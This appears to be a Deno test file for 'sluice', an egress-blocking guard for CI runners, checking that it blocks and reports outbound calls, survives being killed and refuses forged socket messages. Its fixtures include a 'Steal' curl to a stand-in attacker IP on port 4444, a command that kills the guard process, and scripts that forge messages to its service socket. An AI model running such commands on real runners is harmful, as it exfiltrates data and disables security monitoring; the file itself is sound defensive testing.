/** Jobs of a runner that may not use sudo, guarded by the machine's service. */
import assert from "node:assert/strict";
import { SLUICE } from "../action/ground.ts";
import { findStep, type WorkflowStep } from "../action/workflow.ts";
import { lookUntil } from "../lab/wait.ts";
import { differingLines, footprint } from "./leftovers.ts";
import { ServiceGround } from "./service_ground.ts";

const GUARD: WorkflowStep = {
  name: "Guard",
  uses: SLUICE,
  with: {
    "egress-policy": "block",
    "allowed-endpoints": "allowed.test:443",
    "on-denied": "fail",
    "report": "summary",
  },
};
const FETCH: WorkflowStep = {
  name: "Fetch",
  run: "curl -sS --max-time 5 https://allowed.test/ > /dev/null",
};
const STEAL: WorkflowStep = {
  name: "Steal",
  run: "curl -sS --max-time 5 http://203.0.113.66:4444/ || true",
};

const POLICY = "{ version: 1, egress: block, allow: [allowed.test], " +
  "on: { denied: fail } }";
const KILL_GUARD = `kill -9 "$(grep -o '"pid":[0-9]*' /run/sluice/guard.json |
  head -1 | cut -d: -f2)"`;

Deno.test("a runner without sudo and without the service is told what it needs", async () => {
  await using machine = await ServiceGround.up();
  const job = await machine.ground.run({ steps: [GUARD] });
  assert.equal(job.conclusion, "failure");
  const { log } = findStep(job, "Pre Guard");
  assert.match(log, /sluice service install/);
});

Deno.test("jobs of a runner without sudo are guarded one after another", async () => {
  await using machine = await ServiceGround.up();
  const { ground } = machine;
  await machine.serve();
  // Not of its state: a job's journals stay.
  const look = () => footprint((args) => ground.in(args), "/nowhere");
  const clean = await look();
  const good = await ground.run({ steps: [GUARD, FETCH] });
  assert.equal(good.conclusion, "success", JSON.stringify(good));
  assert.match(findStep(good, "Pre Guard").log, /guards this job \(block\)/);

  const bad = await ground.run({ steps: [GUARD, STEAL] });
  assert.equal(bad.conclusion, "failure");
  assert.match(findStep(bad, "Post Guard").log, /203\.0\.113\.66/);

  // Where pre has to leave it to the step itself.
  // Another mode than the default, in which what it denies is refused, too.
  const policy = POLICY.replace("block", "audit")
    .replace("on: {", "deny: [203.0.113.66], on: {");
  const written = { name: "Write", run: `echo "${policy}" > policy.yml` };
  const own = { ...GUARD, with: { "policy-file": "policy.yml" } };
  const late = await ground.run({ steps: [written, own, STEAL] });
  assert.match(findStep(late, "Guard").log, /guards this job \(audit\)/);
  assert.equal(findStep(late, "Guard").outputs.mode, "audit");
  assert.match(findStep(late, "Post Guard").log, /203\.0\.113\.66/);
  assert.equal(late.conclusion, "failure");

  const before = async () => {
    await ground.in(["sh", "-c", KILL_GUARD]);
  };
  const lost = await ground.run({ steps: [GUARD, { ...FETCH, before }] });
  assert.equal(lost.conclusion, "failure");
  assert.match(findStep(lost, "Post Guard").log, /The guard was killed/);

  const kill = { name: "Kill", run: "kill -9 $PPID; sleep 5" };
  const killed = await ground.run({ steps: [GUARD, kill] });
  assert.ok(killed.isWorkerLost);
  const next = await ground.run({ steps: [GUARD, FETCH] });
  assert.equal(next.conclusion, "success", JSON.stringify(next));
  // The last guard stays until it has seen that its worker ended.
  const left = await lookUntil(
    async () => differingLines(clean, await look()),
    { isGood: ({ length }) => length === 0 },
  );
  assert.deepEqual(left, []);
});

Deno.test("of two jobs at once the second is refused and says why", async () => {
  await using machine = await ServiceGround.up();
  const { ground } = machine;
  await machine.serve();
  const wait = "touch /tmp/begun; until [ -e /tmp/go ]; do sleep 0.1; done";
  const first = ground.run({
    steps: [GUARD, { name: "Wait", run: wait }, FETCH],
  });
  const begun = "until [ -e /tmp/begun ]; do sleep 0.1; done";
  const told = await ground.in(["sh", "-c", begun], { timeoutMs: 60_000 });
  assert.equal(told.code, 0);
  const second = await ground.run({ steps: [GUARD, FETCH] });
  assert.equal(second.conclusion, "failure");
  assert.match(findStep(second, "Pre Guard").log, /this machine is guarded/);
  await ground.in(["touch", "/tmp/go"]);
  const { conclusion, steps } = await first;
  assert.equal(conclusion, "success", JSON.stringify(steps));
});

Deno.test("a step cannot have the service guard, or end, a job", async () => {
  await using machine = await ServiceGround.up();
  const { ground } = machine;
  await machine.serve();
  const node = `${ground.runner.root}/externals/node24/bin/node`;
  const entries = `${ground.actionDirectory(SLUICE)}/agent/action`;
  const send = (stage: string) =>
    say(
      `json.dumps(dict(version=1, stage="${stage}", environment={}, ` +
        `inputs={"egress-policy": "audit"})).encode() + b"\\n"`,
    );
  const alone = await ground.run({
    steps: [
      { name: "Exec", run: `exec ${node} ${entries}/pre.ts` },
      { name: "Child", if: "always()", run: `${node} ${entries}/pre.ts` },
      { name: "Say", if: "always()", run: `python3 -c '${send("pre")}'` },
      {
        name: "Junk",
        if: "always()",
        run: `python3 -c '${say('b"junk\\n"')}'`,
      },
    ],
  });
  const logOf = (name: string) => findStep(alone, name).log;
  assert.match(logOf("Exec"), /executed more than one program/);
  assert.match(logOf("Child"), /asked for by a command in a step/);
  assert.match(logOf("Say"), /is no entry of the action/);
  assert.match(logOf("Junk"), /it is no JSON/);
  const state = await ground.in(["ls", "/run/sluice"]);
  assert.equal(state.stdout, "");

  const guarded = await ground.run({
    steps: [
      GUARD,
      { name: "End", run: `python3 -c '${send("post")}'` },
      STEAL,
    ],
  });
  assert.match(findStep(guarded, "End").log, /is no entry of the action/);
  assert.equal(guarded.conclusion, "failure");
});

/** A script for Python that sends bytes to the service, and prints the answer. */
function say(bytes: string): string {
  return `import json, socket; s = socket.socket(socket.AF_UNIX); ` +
    `s.connect("/run/sluice-service/socket"); s.send(${bytes}); ` +
    `print(s.makefile().read())`;
}
